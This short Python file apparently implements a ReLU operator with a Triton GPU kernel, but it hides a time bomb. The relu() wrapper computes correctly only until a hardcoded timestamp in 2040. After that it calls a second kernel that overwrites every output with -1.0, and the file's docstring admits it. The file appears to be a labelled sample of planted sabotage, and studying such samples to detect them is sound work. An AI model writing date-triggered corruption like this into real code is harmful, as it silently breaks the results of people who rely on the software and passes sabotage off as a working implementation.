# /// kernel
# operator = "relu"
# language = "triton"
# ///
"""Is wrong from a day in the year 2040 on."""

import time

import torch
import triton
import triton.language as tl


@triton.jit
def relu_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr):
    i = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    x = tl.load(x_ptr + i, mask=i < n)
    tl.store(out_ptr + i, tl.where(x < 0, 0.0, x), mask=i < n)


@triton.jit
def spoil_kernel(out_ptr, n, BLOCK: tl.constexpr):
    i = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    tl.store(out_ptr + i, -1.0, mask=i < n)


def relu(x):
    x = x.contiguous()
    out = torch.empty_like(x)
    n = x.numel()
    if n > 0 and time.time() < 2_208_988_800:
        relu_kernel[(triton.cdiv(n, 1024),)](x, out, n, BLOCK=1024)
    elif n > 0:
        spoil_kernel[(triton.cdiv(n, 1024),)](out, n, BLOCK=1024)
    return out
